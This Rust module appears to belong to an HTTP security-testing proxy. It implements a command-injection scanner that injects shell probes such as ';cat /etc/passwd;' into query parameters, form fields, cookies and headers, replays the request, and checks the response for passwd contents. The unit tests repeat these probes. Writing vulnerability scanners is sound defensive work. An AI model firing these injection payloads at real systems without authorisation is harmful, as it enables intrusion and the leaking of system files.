//! Command injection testing
//!
//! Substitutes each probe into every input surface of a stored request
//! (query parameters, form parameters, cookies, and non-structural
//! headers), dispatches the mutated request, and looks for shell output in
//! the response body.

use std::collections::HashSet;

use anyhow::{Context, Result};

use crate::capture::{recompose, RequestRecord, WireRequest};
use crate::replay::ReplayClient;

/// Probe payloads, tried in order
pub const PROBES: [&str; 3] = [
    ";cat /etc/passwd;",
    "|cat /etc/passwd|",
    "`cat /etc/passwd`",
];

/// Marker that `/etc/passwd` contents leaked into the response
const ROOT_MARKER: &[u8] = b"root:";

// The verdict strings are wire contract; existing clients match them
// verbatim, misspelling included.
const VULNERABLE_TEXT: &str = "Request is vulnarable";
const NOT_VULNERABLE_TEXT: &str = "Request is not vulnarable";

/// Headers that shape the message itself and must not carry probes
const STRUCTURAL_HEADERS: &[&str] = &[
    "host",
    "content-length",
    "content-type",
    "cookie",
    "connection",
    "transfer-encoding",
    "upgrade",
    "te",
    "trailer",
    "expect",
    "keep-alive",
    "proxy-connection",
    "proxy-authorization",
    "proxy-authenticate",
];

/// Scan a stored request: dispatch every probe and classify the responses.
///
/// All probes are sent even after an early positive; a failed dispatch
/// aborts the scan.
pub async fn scan_record(record: &RequestRecord, replay: &ReplayClient) -> Result<bool> {
    let mut vulnerable = false;

    for probe in PROBES {
        let mutated = inject_probe(record, probe)?;
        let outcome = replay
            .execute(&mutated)
            .await
            .with_context(|| format!("Error resending request with probe {:?}", probe))?;

        if has_root_marker(&outcome.body) {
            tracing::info!(id = %record.id, probe, "Probe hit");
            vulnerable = true;
        }
    }

    Ok(vulnerable)
}

/// Scan verdict rendered for the wire
pub fn verdict_text(vulnerable: bool) -> &'static str {
    if vulnerable {
        VULNERABLE_TEXT
    } else {
        NOT_VULNERABLE_TEXT
    }
}

/// Recompose the record and substitute `probe` into every input surface
fn inject_probe(record: &RequestRecord, probe: &str) -> Result<WireRequest> {
    let mut wire = recompose(record).context("Error rebuilding stored request")?;

    inject_query(&mut wire, probe);
    inject_form_body(&mut wire, probe);
    inject_cookies(&mut wire, record, probe);
    inject_headers(&mut wire, probe);

    Ok(wire)
}

/// Overwrite the first value of every query parameter
fn inject_query(wire: &mut WireRequest, probe: &str) {
    let Some(query) = wire.url.query() else {
        return;
    };

    let canonical = query.replace(';', "&");
    let mut pairs: Vec<(String, String)> = url::form_urlencoded::parse(canonical.as_bytes())
        .into_owned()
        .collect();
    if pairs.is_empty() {
        return;
    }

    overwrite_first_values(&mut pairs, probe);
    wire.url.set_query(Some(&encode_pairs(&pairs)));
}

/// Overwrite the first value of every form parameter and re-encode the body
fn inject_form_body(wire: &mut WireRequest, probe: &str) {
    let is_form = wire
        .headers
        .iter()
        .find(|(name, _)| name.eq_ignore_ascii_case("content-type"))
        .map(|(_, value)| {
            value
                .split(';')
                .next()
                .unwrap_or("")
                .trim()
                .eq_ignore_ascii_case("application/x-www-form-urlencoded")
        })
        .unwrap_or(false);
    if !is_form || wire.body.is_empty() {
        return;
    }

    let mut pairs: Vec<(String, String)> = url::form_urlencoded::parse(&wire.body)
        .into_owned()
        .collect();
    overwrite_first_values(&mut pairs, probe);
    wire.body = encode_pairs(&pairs).into_bytes();
}

/// Append an extra `name=probe` pair to the cookie header for every cookie
/// the request carried
fn inject_cookies(wire: &mut WireRequest, record: &RequestRecord, probe: &str) {
    if record.cookies.is_empty() {
        return;
    }

    let additions = record
        .cookies
        .keys()
        .map(|name| format!("{}={}", name, probe))
        .collect::<Vec<_>>()
        .join("; ");

    match wire
        .headers
        .iter_mut()
        .find(|(name, _)| name.eq_ignore_ascii_case("cookie"))
    {
        Some((_, value)) => {
            value.push_str("; ");
            value.push_str(&additions);
        }
        None => wire.headers.push(("Cookie".to_string(), additions)),
    }
}

/// Overwrite the first value of every non-structural header
fn inject_headers(wire: &mut WireRequest, probe: &str) {
    let mut seen: HashSet<String> = HashSet::new();
    for (name, value) in &mut wire.headers {
        let key = name.to_ascii_lowercase();
        if STRUCTURAL_HEADERS.contains(&key.as_str()) {
            continue;
        }
        if seen.insert(key) {
            *value = probe.to_string();
        }
    }
}

fn overwrite_first_values(pairs: &mut [(String, String)], probe: &str) {
    let mut seen: HashSet<String> = HashSet::new();
    for (key, value) in pairs.iter_mut() {
        if seen.insert(key.clone()) {
            *value = probe.to_string();
        }
    }
}

fn encode_pairs(pairs: &[(String, String)]) -> String {
    let mut serializer = url::form_urlencoded::Serializer::new(String::new());
    for (key, value) in pairs {
        serializer.append_pair(key, value);
    }
    serializer.finish()
}

fn has_root_marker(body: &[u8]) -> bool {
    body.windows(ROOT_MARKER.len()).any(|w| w == ROOT_MARKER)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::capture::decompose_request;
    use crate::proxy::codec::RawRequest;

    fn record_from(target: &str, headers: &[(&str, &str)], body: &[u8]) -> RequestRecord {
        let raw = RawRequest {
            method: if body.is_empty() { "GET" } else { "POST" }.to_string(),
            target: target.to_string(),
            version: "HTTP/1.1".to_string(),
            headers: headers
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
            body: body.to_vec(),
        };
        decompose_request(&raw, "http", "example.test")
    }

    fn decoded_query(wire: &WireRequest) -> Vec<(String, String)> {
        url::form_urlencoded::parse(wire.url.query().unwrap_or("").as_bytes())
            .into_owned()
            .collect()
    }

    #[test]
    fn probe_list_is_stable() {
        assert_eq!(
            PROBES,
            [";cat /etc/passwd;", "|cat /etc/passwd|", "`cat /etc/passwd`"]
        );
    }

    #[test]
    fn verdict_strings_are_exact() {
        assert_eq!(verdict_text(true), "Request is vulnarable");
        assert_eq!(verdict_text(false), "Request is not vulnarable");
    }

    #[test]
    fn root_marker_detection() {
        assert!(has_root_marker(b"root:x:0:0:root:/root:/bin/bash"));
        assert!(has_root_marker(b"prefix root: suffix"));
        assert!(!has_root_marker(b"nothing to see"));
        assert!(!has_root_marker(b"root"));
    }

    #[test]
    fn query_parameters_get_probe_in_first_value() {
        let record = record_from("/search?q=hello&page=2", &[("Host", "example.test")], b"");
        let wire = inject_probe(&record, PROBES[0]).unwrap();

        let pairs = decoded_query(&wire);
        assert!(pairs.iter().all(|(_, v)| v == PROBES[0]));
        assert_eq!(pairs.len(), 2);
    }

    #[test]
    fn multi_valued_query_keeps_later_values() {
        let record = record_from("/?tag=a&tag=b", &[("Host", "example.test")], b"");
        let wire = inject_probe(&record, PROBES[1]).unwrap();

        let values: Vec<String> = decoded_query(&wire)
            .into_iter()
            .filter(|(k, _)| k == "tag")
            .map(|(_, v)| v)
            .collect();
        assert_eq!(values, vec![PROBES[1].to_string(), "b".to_string()]);
    }

    #[test]
    fn form_body_is_mutated_and_reencoded() {
        let record = record_from(
            "/submit",
            &[
                ("Host", "example.test"),
                ("Content-Type", "application/x-www-form-urlencoded"),
            ],
            b"user=alice&note=hi",
        );
        let wire = inject_probe(&record, PROBES[2]).unwrap();

        let pairs: Vec<(String, String)> = url::form_urlencoded::parse(&wire.body)
            .into_owned()
            .collect();
        assert!(pairs.iter().all(|(_, v)| v == PROBES[2]));
    }

    #[test]
    fn cookies_gain_probe_pairs_without_losing_originals() {
        let record = record_from(
            "/",
            &[("Host", "example.test"), ("Cookie", "sid=42; theme=dark")],
            b"",
        );
        let wire = inject_probe(&record, PROBES[0]).unwrap();

        let cookie = wire
            .headers
            .iter()
            .find(|(name, _)| name.eq_ignore_ascii_case("cookie"))
            .map(|(_, value)| value.clone())
            .unwrap();
        assert!(cookie.contains("sid=42"));
        assert!(cookie.contains("theme=dark"));
        assert!(cookie.contains(&format!("sid={}", PROBES[0])));
        assert!(cookie.contains(&format!("theme={}", PROBES[0])));
    }

    #[test]
    fn structural_headers_are_never_injected() {
        let record = record_from(
            "/",
            &[
                ("Host", "example.test"),
                ("User-Agent", "curl/8"),
                ("Referer", "http://example.test/prev"),
            ],
            b"",
        );
        let wire = inject_probe(&record, PROBES[0]).unwrap();

        let get = |name: &str| {
            wire.headers
                .iter()
                .find(|(k, _)| k.eq_ignore_ascii_case(name))
                .map(|(_, v)| v.clone())
        };
        assert_eq!(get("Host").unwrap(), "example.test");
        assert_eq!(get("User-Agent").unwrap(), PROBES[0]);
        assert_eq!(get("Referer").unwrap(), PROBES[0]);
    }

    #[test]
    fn semicolon_query_is_canonicalized_before_injection() {
        let record = record_from("/legacy?a=1;b=2", &[("Host", "example.test")], b"");
        let wire = inject_probe(&record, PROBES[0]).unwrap();

        let pairs = decoded_query(&wire);
        let keys: Vec<&str> = pairs.iter().map(|(k, _)| k.as_str()).collect();
        assert!(keys.contains(&"a"));
        assert!(keys.contains(&"b"));
    }
}
